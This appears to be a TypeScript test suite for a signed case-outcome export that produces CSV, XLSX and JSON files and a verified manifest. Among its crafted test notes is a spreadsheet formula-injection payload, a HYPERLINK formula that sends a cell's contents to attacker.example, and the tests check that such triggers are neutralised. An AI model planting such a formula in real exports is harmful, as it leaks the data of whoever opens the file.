import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { buildSignedExport, type ExportFile } from './build-signed-export';
import { exportManifestSchema } from './export-manifest';
import { ExportInputError } from './outcome-table';
import { outcomesJsonSchema } from './outcomes-json';
import { CRAFTED_NOTES, sampleDeviceKeys, sampleExportInput, sampleReview } from './testing/sample-export';
import { describeExportProblem, verifyExportFiles } from './verify-export-files';

const fileOf = (files: readonly ExportFile[], name: string) => files.find((file) => file.name === name)!.bytes;
const asMap = (files: readonly ExportFile[]) => new Map(files.map((file) => [file.name as string, file.bytes]));

/** Neutralised as OWASP says: a single quote in front of a formula trigger, nothing else touched. */
const expectedNote = (note: string) => (/^[=+\-@\t\r]/.test(note) ? `'${note}` : note);

async function buildSample(outcomeCount?: number) {
  const keys = await sampleDeviceKeys();
  const input = sampleExportInput(outcomeCount);
  const built = await buildSignedExport(input, keys.signingKey);
  return { keys, input, ...built };
}

describe('signed export files', () => {
  it('builds the four files, manifest last', async () => {
    const { files } = await buildSample();
    expect(files.map((file) => file.name)).toEqual(['outcomes.csv', 'outcomes.xlsx', 'outcomes.json', 'manifest.json']);
  });

  it('outcomes.csv: UTF-8 with BOM, RFC 4180, one row per case, formula triggers neutralised', async () => {
    const { files, input } = await buildSample();
    const bytes = fileOf(files, 'outcomes.csv');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes.subarray(3));
    expect(text.endsWith('\r\n')).toBe(true);
    // Records end in CRLF; a bare LF or CR appears only inside a quoted field (the multi-line note, the CR-led one).
    const outsideQuotes = text.replace(/"(?:[^"]|"")*"/g, '""');
    expect(outsideQuotes.split('\r\n').every((line) => !line.includes('\n') && !line.includes('\r'))).toBe(true);

    const records = parse(bytes, { bom: true, relax_column_count: false }) as string[][];
    const [header, ...rows] = records;
    expect(header!.slice(0, 2)).toEqual(['Case reference', 'Case id']);
    expect(header!.slice(-5)).toEqual(['Risk level', 'Flags', 'Victims named', 'Reviewed on', "'=Notes"]);
    expect(rows).toHaveLength(input.outcomes.length);

    const byCase = new Map(rows.map((row) => [row[1]!, row]));
    input.outcomes.forEach((outcome, index) => {
      const row = byCase.get(outcome.caseId)!;
      expect(row[0]).toBe(outcome.caseReference);
      expect(row.at(-1)).toBe(expectedNote(CRAFTED_NOTES[index]!));
      expect(row.at(-2)).toBe(outcome.review.answers.reviewed_on);
      expect(row.at(-3)).toBe(String(index));
      expect(row.at(-4)).toBe('Alpha; Beta "quoted"');
      expect(row.at(-5)).toBe(index % 2 === 0 ? 'High, urgent' : 'Low');
    });
    const notes = rows.map((row) => row.at(-1)!);
    expect(notes).toContain(`'=HYPERLINK("http://attacker.example/?leak="&A2,"Click")`);
    expect(notes).toContain(`'+1`);
    expect(notes).toContain(`'@SUM(1)`);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('outcomes.xlsx: the same table, text stored as text, no formula anywhere', async () => {
    const { files, input } = await buildSample();
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(fileOf(files, 'outcomes.xlsx')) as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Outcomes')!;
    expect(sheet.rowCount).toBe(input.outcomes.length + 1);
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header.at(-1)).toBe("'=Notes");

    const notes: string[] = [];
    sheet.eachRow((row, rowNumber) => {
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula).toBeUndefined();
        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
      });
      if (rowNumber > 1) {
        const notesCell = row.getCell(header.length);
        expect(notesCell.type).toBe(ExcelJS.ValueType.String);
        expect(notesCell.numFmt).toBe('@');
        notes.push(notesCell.value as string);
        expect(row.getCell(header.length - 2).type).toBe(ExcelJS.ValueType.Number);
      }
    });
    // XML parsers turn a carriage return in text into a line feed (XML 1.0, 2.11); the quote in front stays.
    expect(notes.sort()).toEqual(CRAFTED_NOTES.map((note) => expectedNote(note).replace(/\r/g, '\n')).sort());
    expect(notes).toContain(`'=HYPERLINK("http://attacker.example/?leak="&A2,"Click")`);
    expect(notes).toContain(`'+1`);
    expect(notes).toContain(`'@SUM(1)`);
  });

  it('outcomes.json: every outcome in full with its template, answers exactly as given', async () => {
    const { files, input } = await buildSample();
    const document = outcomesJsonSchema.parse(JSON.parse(new TextDecoder().decode(fileOf(files, 'outcomes.json'))));
    expect(document.template).toEqual({ templateVersion: 3, definition: input.template });
    expect(document.outcomes).toHaveLength(input.outcomes.length);
    for (const outcome of input.outcomes) {
      const exported = document.outcomes.find((entry) => entry.caseId === outcome.caseId)!;
      expect(exported.answers).toEqual(outcome.review.answers);
      expect(exported.qc).toEqual(outcome.review.qc);
    }
  });

  it('manifest.json: names the disclosure, hashes every file, and verifies against the device key', async () => {
    const { files, input, keys } = await buildSample();
    const manifest = exportManifestSchema.parse(JSON.parse(new TextDecoder().decode(fileOf(files, 'manifest.json'))));
    expect(manifest).toMatchObject({
      exportId: input.exportId,
      recipient: input.recipient,
      justification: input.justification,
      lead: { userId: 'lead-1' },
      device: { deviceId: 'device-lead-1', deviceName: 'Lead laptop' },
      counts: { outcomes: input.outcomes.length, approved: input.outcomes.length, submittedWithoutQc: 0 },
      qcPolicy: input.qcPolicy,
      batches: [
        { batchId: 'batch-a', name: 'Borough A, November', outcomes: 4 },
        { batchId: 'batch-b', name: 'Borough B, November', outcomes: 4 },
      ],
    });
    expect(manifest.files.map((file) => file.name)).toEqual(['outcomes.csv', 'outcomes.xlsx', 'outcomes.json']);
    const verification = await verifyExportFiles(asMap(files), (deviceId) => Promise.resolve(deviceId === 'device-lead-1' ? keys.publicKey : null));
    expect(verification.problems).toEqual([]);
  });

  it('one changed byte in outcomes.csv is named', async () => {
    const { files, keys } = await buildSample();
    const map = asMap(files);
    const csv = Uint8Array.from(map.get('outcomes.csv')!);
    csv[10] = csv[10]! ^ 0x01;
    map.set('outcomes.csv', csv);
    const { problems } = await verifyExportFiles(map, () => Promise.resolve(keys.publicKey));
    expect(problems).toEqual([{ kind: 'FileAltered', file: 'outcomes.csv' }]);
    expect(describeExportProblem(problems[0]!)).toBe('outcomes.csv does not match its SHA-256 in the manifest: it was altered');
  });

  it('a manifest signed by another device, or edited after signing, fails its signature', async () => {
    const { files, input } = await buildSample();
    const other = await sampleDeviceKeys();
    const signedElsewhere = await buildSignedExport(input, other.signingKey);
    const realKeys = await sampleDeviceKeys();
    // The registered key of device-lead-1 is not the key that signed.
    const { problems } = await verifyExportFiles(asMap(signedElsewhere.files), () => Promise.resolve(realKeys.publicKey));
    expect(problems).toEqual([{ kind: 'SignatureInvalid', deviceId: 'device-lead-1' }]);

    const keys = await sampleDeviceKeys();
    const honest = await buildSignedExport(input, keys.signingKey);
    const edited = { ...honest.manifest, recipient: 'Someone else entirely' };
    const map = asMap(honest.files);
    map.set('manifest.json', new TextEncoder().encode(JSON.stringify(edited)));
    expect((await verifyExportFiles(map, () => Promise.resolve(keys.publicKey))).problems).toEqual([{ kind: 'SignatureInvalid', deviceId: 'device-lead-1' }]);
    expect(files).toHaveLength(4);
  });

  it('names a missing file, a stranger file, a missing manifest and an unknown device', async () => {
    const { files, keys } = await buildSample();
    const map = asMap(files);
    map.delete('outcomes.xlsx');
    map.set('notes.txt', new Uint8Array([1]));
    expect((await verifyExportFiles(map, () => Promise.resolve(keys.publicKey))).problems).toEqual([
      { kind: 'UnexpectedFile', file: 'notes.txt' },
      { kind: 'FileMissing', file: 'outcomes.xlsx' },
    ]);
    expect((await verifyExportFiles(asMap(files), () => Promise.resolve(null))).problems).toEqual([{ kind: 'DeviceUnknown', deviceId: 'device-lead-1' }]);
    const withoutManifest = asMap(files);
    withoutManifest.delete('manifest.json');
    expect((await verifyExportFiles(withoutManifest, () => Promise.resolve(keys.publicKey))).problems).toEqual([{ kind: 'ManifestMissing' }]);
  });

  it('refuses outcomes that are not approved unless the lead exports without QC, with counts only', async () => {
    const keys = await sampleDeviceKeys();
    const input = sampleExportInput(3);
    const submitted = { ...input.outcomes[1]!, review: sampleReview('case-00001', 1, { status: 'submitted', qc: null }) };
    const mixed = { ...input, outcomes: [input.outcomes[0]!, submitted, input.outcomes[2]!] };
    const refusal = await buildSignedExport(mixed, keys.signingKey).catch((error: unknown) => error);
    expect(refusal).toBeInstanceOf(ExportInputError);
    expect((refusal as ExportInputError).problem).toBe('NotExportable');
    expect((refusal as ExportInputError).message).toBe('Export refused: NotExportable (1 outcome)');

    const withoutQc = await buildSignedExport({ ...mixed, qcPolicy: { requireApproval: false, sample: null } }, keys.signingKey);
    expect(withoutQc.manifest.counts).toEqual({ outcomes: 3, approved: 2, submittedWithoutQc: 1 });
    expect(withoutQc.manifest.qcPolicy).toEqual({ requireApproval: false, sample: null });

    const returned = { ...input.outcomes[1]!, review: sampleReview('case-00001', 1, { status: 'returned' }) };
    await expect(buildSignedExport({ ...mixed, outcomes: [returned], qcPolicy: { requireApproval: false, sample: null } }, keys.signingKey)).rejects.toMatchObject({ problem: 'NotExportable' });
    await expect(buildSignedExport({ ...input, recipient: '  ' }, keys.signingKey)).rejects.toMatchObject({ problem: 'DisclosureDetailsInvalid' });
    await expect(buildSignedExport({ ...input, justification: '' }, keys.signingKey)).rejects.toMatchObject({ problem: 'DisclosureDetailsInvalid' });
    const otherTemplate = { ...input.outcomes[0]!, review: sampleReview('case-00000', 0, { templateVersion: 2 }) };
    await expect(buildSignedExport({ ...input, outcomes: [otherTemplate] }, keys.signingKey)).rejects.toMatchObject({ problem: 'TemplateMismatch' });
  });
});
